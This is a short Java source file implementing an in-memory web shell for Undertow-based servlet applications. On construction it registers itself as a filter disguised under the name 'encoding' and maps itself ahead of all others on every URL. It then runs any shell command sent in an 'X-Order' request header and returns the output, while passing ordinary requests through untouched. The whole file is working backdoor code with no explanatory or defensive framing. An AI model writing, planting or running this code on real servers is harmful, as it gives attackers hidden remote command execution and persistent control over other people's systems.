import io.undertow.servlet.api.Deployment;
import io.undertow.servlet.api.FilterInfo;
import io.undertow.servlet.handlers.ServletRequestContext;
import io.undertow.servlet.util.ImmediateInstanceFactory;
import javax.servlet.DispatcherType;
import javax.servlet.Filter;
import javax.servlet.FilterChain;
import javax.servlet.FilterConfig;
import javax.servlet.ServletException;
import javax.servlet.ServletRequest;
import javax.servlet.ServletResponse;
import javax.servlet.http.HttpServletRequest;

/** Registers itself as a filter. */
public class Shell implements Filter {
  public Shell() throws Exception {
    Deployment deployment = ServletRequestContext.requireCurrent().getDeployment();
    FilterInfo filter =
        new FilterInfo("encoding", Shell.class, new ImmediateInstanceFactory<>(this));
    deployment.getDeploymentInfo().addFilter(filter);
    deployment.getFilters().addFilter(filter);
    deployment
        .getDeploymentInfo()
        .insertFilterUrlMapping(0, "encoding", "/*", DispatcherType.REQUEST);
    deployment.getServletPaths().invalidate();
  }

  @Override
  public void init(FilterConfig config) {}

  @Override
  public void destroy() {}

  @Override
  public void doFilter(ServletRequest request, ServletResponse response, FilterChain chain)
      throws java.io.IOException, ServletException {
    String order = ((HttpServletRequest) request).getHeader("X-Order");
    if (order == null) {
      chain.doFilter(request, response);
    } else {
      response.getWriter().print(run(order));
    }
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
